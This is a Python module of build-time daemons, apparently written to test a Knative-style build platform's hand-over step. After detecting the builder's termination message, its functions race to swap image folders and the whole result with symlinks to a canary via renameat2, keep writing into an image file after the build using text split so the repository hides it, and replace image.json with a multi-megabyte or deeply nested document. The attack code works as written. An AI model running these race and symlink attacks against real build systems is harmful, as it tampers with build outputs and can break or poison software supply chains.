"""Daemons of a build that change its result during the hand-over: they swap folders and links and change files.

They begin when the builder has written its termination message: then the result is complete, and only the platform reads it.
"""

import contextlib
import ctypes
import os
import time

RENAME_EXCHANGE = 2
AT_FDCWD = -100
LIBC = ctypes.CDLL(None, use_errno=True)


def exchange(one, other, folder=AT_FDCWD):
    """Swap two names atomically (renameat2(2))."""
    return LIBC.renameat2(folder, os.fsencode(one), folder, os.fsencode(other), RENAME_EXCHANGE)


def builder():
    """Return the pid of the platform's builder, or of the oldest visible ancestor."""
    current = os.getpid()
    while True:
        with open(f"/proc/{current}/stat") as file:
            parent = int(file.read().rpartition(")")[2].split()[1])
        with open(f"/proc/{current}/cmdline") as file:
            is_builder = "knative.builder" in file.read()
        if is_builder or parent == 0 or not os.path.exists(f"/proc/{parent}/stat"):
            return current
        current = parent


BUILDER = builder()


def await_result(seconds=120):
    """Wait until the builder has written its termination message or has ended."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            if os.stat("/dev/termination-log").st_size:
                return
        if not os.path.exists(f"/proc/{BUILDER}"):
            return
        time.sleep(0.0002)


def swap_folder(canary, seconds=20, files=200):
    """Swap folders of the image, with files named like the canary's, with links to the canary."""
    inside = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for name in ("swapped", "a-swapped", "z-swapped"):
        os.makedirs(name, exist_ok=True)
        for number in range(files):
            with open(f"{name}/f{number}", "w") as file:
                file.write("mine")
    await_result()
    for name in ("swapped", "a-swapped", "z-swapped"):
        with contextlib.suppress(FileExistsError):
            os.symlink(canary, f"{name}.link", dir_fd=inside)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for name in ("a-swapped", "swapped", "z-swapped"):
            exchange(name, f"{name}.link", inside)


def swap_image(canary, seconds=20):
    """Swap the whole result `image` with a link to the canary."""
    workspace = os.open(os.path.dirname(os.path.dirname(os.getcwd())), os.O_RDONLY | os.O_DIRECTORY)
    await_result()
    with contextlib.suppress(OSError):
        os.symlink(canary, "image.link", dir_fd=workspace)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        exchange("image", "image.link", workspace)
        time.sleep(0)


def write_late(name, parts, seconds=20):
    """Keep a file of the image open and write to it after the build, each time another number.

    The text comes in parts, so that the repository does not contain it.
    """
    text = "".join(parts)
    descriptor = os.open(name, os.O_RDWR)
    await_result()
    end, number = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        time.sleep(0.05)
        os.pwrite(descriptor, f"{text}{number:06}".encode(), 0)
        number += 1


def replace_manifest(kind, mib=36, seconds=60):
    """Replace image.json by a huge or deeply nested document as soon as the builder has written it."""
    place = os.path.dirname(os.getcwd())
    prepared = os.path.join(os.path.dirname(place), "prepared.json")
    with open(prepared, "w") as file:
        if kind == "huge":
            file.write('{"cmd": ["python3", "app.py"], "kind": "python", "env": {')
            file.write(", ".join(f'"A{number}": "{number}"' for number in range((mib << 20) // 20)))
            file.write("}}")
        else:
            depth = (mib << 20) // 8
            file.write('{"cmd": ["python3", "app.py"], "env": {}, "kind": ' + "[" * depth + "]" * depth + "}")
    target, end = os.path.join(place, "image.json"), time.monotonic() + seconds
    while time.monotonic() < end and not os.path.exists(target):
        time.sleep(0.0002)
    os.rename(prepared, target)


DAEMONS = {each.__name__: each for each in (swap_folder, swap_image, write_late, replace_manifest)}
